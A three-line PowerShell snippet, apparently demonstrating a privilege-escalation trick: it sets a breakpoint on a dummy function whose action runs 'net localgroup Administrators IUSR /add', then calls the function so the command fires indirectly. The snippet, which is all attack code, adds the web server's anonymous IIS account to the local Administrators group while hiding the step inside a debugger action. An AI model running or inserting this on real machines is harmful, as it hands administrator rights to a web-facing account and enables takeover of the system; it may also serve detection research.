function foo { 1 }
Set-PSBreakpoint -Command foo -Action { net localgroup Administrators IUSR /add }
foo
